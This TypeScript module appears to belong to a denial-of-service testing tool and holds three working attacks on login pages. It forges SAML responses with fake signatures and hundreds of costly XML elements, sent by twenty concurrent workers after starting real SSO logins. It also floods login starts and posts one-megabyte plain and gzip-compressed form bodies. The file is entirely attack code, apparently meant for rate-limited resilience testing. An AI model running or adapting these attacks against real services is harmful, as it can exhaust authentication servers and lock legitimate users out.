import { gzipSync, inflateRawSync } from 'node:zlib';
import type { Attack, Target } from '../attack.ts';
import { exchange, form, formType, send } from '../client.ts';
import type { TokenBucket } from '../token-bucket.ts';

/** Attacks on the pages of logins, which work without JavaScript. */

const megabyte = `email=${'x'.repeat(1024 * 1024)}`;
const compressedMegabyte = gzipSync(megabyte);
/** Responses that are sent at the same time. */
const responders = 20;
/** The bytes of a request without its body. */
const headBytes = 300;

const startPath = ({ saml }: Target) => `/auth/sso/${saml.orgId}/start/`;
const beginLogin = (target: Target) => ({ method: 'POST', path: startPath(target), headers: { Origin: target.saml.origin } });

/** The ID of the request of a new login. Null if the server refused to begin one. */
async function requestIdOfNewLogin(target: Target): Promise<string | null> {
  const started = await exchange(target, beginLogin(target));
  const request = started?.headers.location && new URL(started.headers.location).searchParams.get('SAMLRequest');
  return request ? / ID="([^"]+)"/.exec(inflateRawSync(Buffer.from(request, 'base64')).toString())![1]! : null;
}

const algorithms = {
  exclusive: 'http://www.w3.org/2001/10/xml-exc-c14n#',
  enveloped: 'http://www.w3.org/2000/09/xmldsig#enveloped-signature',
  rsa: 'http://www.w3.org/2001/04/xmldsig-more#rsa-sha256',
  sha256: 'http://www.w3.org/2001/04/xmlenc#sha256',
};

/** A well-formed signature of the response, which no key has made. */
const signature =
  '<ds:Signature xmlns:ds="http://www.w3.org/2000/09/xmldsig#"><ds:SignedInfo>' +
  `<ds:CanonicalizationMethod Algorithm="${algorithms.exclusive}"/><ds:SignatureMethod Algorithm="${algorithms.rsa}"/>` +
  `<ds:Reference URI="#_r"><ds:Transforms><ds:Transform Algorithm="${algorithms.enveloped}"/></ds:Transforms>` +
  `<ds:DigestMethod Algorithm="${algorithms.sha256}"/><ds:DigestValue>AAAA</ds:DigestValue></ds:Reference></ds:SignedInfo>` +
  `<ds:SignatureValue>${'A'.repeat(344)}</ds:SignatureValue></ds:Signature>`;

/** A forged response, of which each element is expensive to parse and to verify. */
function responseTo(requestId: string, { saml: { orgId, origin } }: Target): string {
  const element = '<a xmlns:b="c" xmlns:d="e" f="g"/>';
  const head =
    '<samlp:Response xmlns:samlp="urn:oasis:names:tc:SAML:2.0:protocol" ID="_r" Version="2.0" ' +
    `Destination="${origin}/saml/acs/${orgId}/" InResponseTo="${requestId}">`;
  return Buffer.from(`${head}${signature}${element.repeat(900)}</samlp:Response>`).toString('base64');
}

async function forgeResponses(target: Target, bucket: TokenBucket): Promise<void> {
  for (;;) {
    await bucket.take(headBytes);
    const requestId = await requestIdOfNewLogin(target);
    const posted = form({ SAMLResponse: responseTo(requestId ?? '_unknown', target) });
    await bucket.take(headBytes + posted.body!.length);
    await exchange(target, { method: 'POST', path: `/saml/acs/${target.saml.orgId}/`, ...posted });
  }
}

export const logins: readonly Attack[] = [
  {
    name: 'saml-responses',
    says: 'forged SAML responses to logins that the attacker began, each expensive to parse',
    run: async (target, bucket) => void (await Promise.all(Array.from({ length: responders }, () => forgeResponses(target, bucket)))),
  },
  {
    name: 'login-starts',
    says: 'starts of logins at an identity provider',
    async run(target, bucket) {
      for (;;) {
        await bucket.take(headBytes);
        await send(target, beginLogin(target));
      }
    },
  },
  {
    name: 'forms',
    says: 'forms of a megabyte, plain and compressed',
    async run(target, bucket) {
      for (let number = 0; ; number++) {
        const body = number % 2 === 0 ? compressedMegabyte : megabyte;
        const encoding: Record<string, string> = number % 2 === 0 ? { 'Content-Encoding': 'gzip' } : {};
        await bucket.take(headBytes + body.length);
        const path = number % 4 < 2 ? '/login/' : startPath(target);
        await send(target, { method: 'POST', path, headers: { ...formType, ...encoding }, body });
      }
    },
  },
];
